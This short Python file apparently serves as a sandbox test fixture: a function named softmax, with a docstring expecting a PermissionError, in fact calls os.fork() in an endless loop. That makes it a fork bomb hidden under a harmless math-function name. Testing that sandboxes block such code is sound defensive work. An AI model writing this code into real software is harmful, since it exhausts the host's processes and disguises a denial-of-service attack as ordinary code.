"""Forks for ever. Expect crashed: PermissionError."""

import numpy as np


def softmax(x, axis=-1):
    import os

    while True:
        os.fork()
